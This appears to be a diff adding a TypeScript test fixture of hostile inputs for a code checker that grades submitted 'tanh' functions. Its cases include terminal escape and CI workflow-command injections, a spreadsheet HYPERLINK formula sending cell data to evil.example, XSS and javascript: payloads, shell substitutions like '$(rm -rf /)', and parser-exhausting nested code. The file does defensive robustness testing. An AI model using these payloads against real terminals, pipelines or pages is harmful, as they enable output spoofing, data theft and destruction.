@@ -1,0 +1,213 @@
+import { attack, body } from '../attack.ts'
+
+const says = (name: string, text: string) =>
+  attack(name, body(`throw new Error(${JSON.stringify(text)})`), 'faulty')
+
+/** Text that is meant for something behind the checker: a terminal, a log, a spreadsheet, a page. */
+export const text = [
+  says('ANSI colours and cursor', '\u001b[2J\u001b[1;1H\u001b[32m✓ all passed\u001b[0m'),
+  says('a terminal title', '\u001b]0;pwned\u0007'),
+  says('a terminal link', '\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007'),
+  says('8-bit controls', '\u009b31m\u009d0;x\u009c'),
+  says('carriage returns and backspaces', 'failed\rpassed\b\b\b\b\b\bpassed'),
+  says('bidirectional controls', '\u202epassed\u202c\u2066x\u2069\u200f'),
+  says('line separators', 'a\u2028::error::b\u2029c'),
+  says('a workflow command', '\n::error file=a.ts,line=1::pwned\n::set-output name=x::y'),
+  says('a workflow command with a percent', '%0A::add-mask::x'),
+  says('a CSV formula', '=HYPERLINK("http://evil.example?"&A1,"click")'),
+  says('a CSV formula behind a tab', '\t=1+1'),
+  says('XML', ']]></failure></testsuite><!-- <?xml version="1.0"?> &amp; &#0;'),
+  says('HTML', '<img src=x onerror=alert(1)><script>alert(1)</script>'),
+  says('Markdown', '![x](http://evil.example/a.png) [a](javascript:alert(1)) `` ` ``'),
+  says('null bytes', 'a\u0000b'),
+  says('lone surrogates', '\ud800 and \udfff'),
+  says('noncharacters', '\ufffe\uffff\u0001\u0008'),
+  says('format strings', '%s %d %n %c ${x} $(rm -rf /) `id`'),
+  attack('eight megabytes', body("throw new Error('x'.repeat(8e6))"), 'faulty', 'did-not-finish'),
+  attack(
+    'a thrown string',
+    body("throw '\\u001b[31m' + 'y'.repeat(1e6)"),
+    'faulty',
+    'did-not-finish',
+  ),
+  attack('a returned string', body("return '\\u001b[31m<script>' as any"), 'faulty'),
+  attack(
+    'a hostile name of an error',
+    body("throw Object.assign(new Error('m'), { name: '\\u001b[31m\\n::error::x'.repeat(1000) })"),
+    'faulty',
+  ),
+  attack(
+    'hostile export names',
+    "const a = 1\nexport { a as '\\u001b[31mtanh', a as '\\n::error::x', a as '<script>' }\n",
+    'missing',
+  ),
+  attack(
+    'hostile output',
+    `console.log('\\u001b]0;x\\u0007', '\\n::error::x', '=1+1', '\\u202e')\nexport const tanh = Math.tanh\n`,
+    'right',
+  ),
+]
+
+const NEST = 20_000
+
+/** Files that are hard to read. */
+export const source = [
+  attack(
+    'nested brackets',
+    `${'('.repeat(NEST)}1${')'.repeat(NEST)}\n`,
+    'forbidden',
+    'does-not-parse',
+  ),
+  attack('brackets that never close', '('.repeat(60_000), 'forbidden'),
+  attack(
+    'brackets behind a quote in a regular expression',
+    '/"/;((((((\n'.repeat(5_000),
+    'forbidden',
+  ),
+  attack('brackets that a string seems to close', '")))))))"+(((((((\n'.repeat(4_000), 'forbidden'),
+  attack('comparisons that could be types', 'a<\n'.repeat(20_000), 'forbidden'),
+  attack('defaults that could be arrow functions', '(a=\n'.repeat(16_000), 'forbidden'),
+  attack('an error in every statement', 'try{}'.repeat(13_000), 'forbidden'),
+  attack('an error on every line', 'try{}\n'.repeat(10_000), 'forbidden', 'does-not-parse'),
+  attack(
+    'nested arrays',
+    `export const a = ${'['.repeat(30_000)}${']'.repeat(30_000)}\n`,
+    'forbidden',
+    'does-not-parse',
+  ),
+  attack(
+    'nested objects',
+    `export const a = ${'{a:'.repeat(12_000)}1${'}'.repeat(12_000)}\n`,
+    'forbidden',
+    'does-not-parse',
+  ),
+  attack(
+    'nested functions',
+    `export const tanh = ${'()=>'.repeat(15_000)}1\n`,
+    'forbidden',
+    'does-not-parse',
+  ),
+  attack(
+    'nested blocks',
+    `${'{'.repeat(30_000)}${'}'.repeat(30_000)}`,
+    'forbidden',
+    'does-not-parse',
+  ),
+  attack(
+    'nested templates',
+    `export const a = ${'`${'.repeat(9_000)}1${'}`'.repeat(9_000)}\n`,
+    'forbidden',
+    'does-not-parse',
+  ),
+  attack(
+    'nested types',
+    `type T = ${'Array<'.repeat(9_000)}1${'>'.repeat(9_000)}\nexport const tanh = Math.tanh\n`,
+    'forbidden',
+    'does-not-parse',
+    'right',
+  ),
+  attack(
+    'nested conditions',
+    `export const tanh = (x: number) => ${'x?1:'.repeat(15_000)}1\n`,
+    'forbidden',
+    'does-not-parse',
+  ),
+  attack(
+    'a long sum',
+    `export const tanh = (x: number) => ${'x+'.repeat(30_000)}x\n`,
+    'forbidden',
+    'does-not-parse',
+    'wrong',
+  ),
+  attack(
+    'many negations',
+    `export const tanh = (x: number) => ${'- '.repeat(30_000)}x\n`,
+    'forbidden',
+    'does-not-parse',
+  ),
+  attack(
+    'many not',
+    `export const tanh = (x: number) => ${'!'.repeat(60_000)}x\n`,
+    'forbidden',
+    'does-not-parse',
+  ),
+  attack(
+    'a chain of members',
+    `export const tanh = (x: number) => x${'.a'.repeat(30_000)}\n`,
+    'forbidden',
+    'does-not-parse',
+    'faulty',
+  ),
+  attack(
+    'a chain of else if',
+    `export function tanh(x: number) { ${'if (x) {} else '.repeat(4_000)}{} }\n`,
+    'forbidden',
+    'does-not-parse',
+    'faulty',
+  ),
+  attack(
+    'more than the largest size',
+    `// ${'x'.repeat(70_000)}\nexport const tanh = Math.tanh\n`,
+    'forbidden',
+  ),
+  attack('one megabyte on one line', `export const a = "${'x'.repeat(1_000_000)}"`, 'forbidden'),
+  attack(
+    'ten thousand exports',
+    `${Array.from({ length: 4000 }, (_, i) => `export let a${i}=1`).join('\n')}\n`,
+    'missing',
+    'forbidden',
+  ),
+  attack('an empty file', '', 'missing'),
+  attack('only a comment', '// nothing', 'missing'),
+  attack('no final newline', 'export const tanh = Math.tanh', 'right'),
+  attack(
+    'carriage returns and line feeds',
+    'export function tanh(x: number): number {\r\n  return Math.tanh(x)\r\n}\r\n',
+    'right',
+  ),
+  attack(
+    'carriage returns alone',
+    'export function tanh(x: number): number {\r  return Math.tanh(x)\r}\r',
+    'right',
+  ),
+  attack('a byte-order mark', '\ufeffexport const tanh = Math.tanh\n', 'right'),
+  attack('null bytes', 'export const tanh = Math.tanh\u0000\n', 'does-not-parse'),
+  attack(
+    'lone surrogates',
+    "export const s = '\ud800'; export const tanh = Math.tanh\n",
+    'right',
+    'does-not-parse',
+    'crashed',
+  ),
+  attack('identifiers from other scripts', 'export const tаnh = Math.tanh\n', 'missing'),
+  attack(
+    'bidirectional controls',
+    'export const tanh = (x: number) => /*\u202e } { \u2066*/ Math.tanh(x)\n',
+    'right',
+  ),
+  attack('an escaped name', 'export const \\u0074anh = Math.tanh\n', 'right'),
+  attack('shell text', '$(rm -rf ~); `id`\n', 'does-not-parse', 'crashed'),
+  attack('Python', 'def tanh(x):\n    return math.tanh(x)\n', 'does-not-parse'),
+  attack('a picture', '\u0089PNG\r\n\u001a\n', 'does-not-parse'),
+  attack(
+    'a decorator',
+    'const d = (c: any) => c\n@d class A { static tanh = Math.tanh }\nexport { A }\n',
+    'does-not-parse',
+  ),
+  attack('JSX', 'export const tanh = () => <div>1</div>\n', 'does-not-parse'),
+  attack(
+    'two functions of one name',
+    'export function tanh(x: number) { return x }\nexport function tanh(x: number) { return Math.tanh(x) }\n',
+    'does-not-parse',
+    'crashed',
+  ),
+  attack('a circle of one', "export { tanh } from './a'\n", 'forbidden'),
+  attack('a file that throws', 'throw new Error("no")\n', 'crashed'),
+  attack('a file that throws nothing', 'throw undefined\n', 'crashed'),
+  attack('a name that is never set', 'export let tanh: (x: number) => number\n', 'missing'),
+  attack(
+    'a name in its dead zone',
+    'export { tanh }\nif (tanh) {}\nconst tanh = Math.tanh\n',
+    'crashed',
+  ),
+]
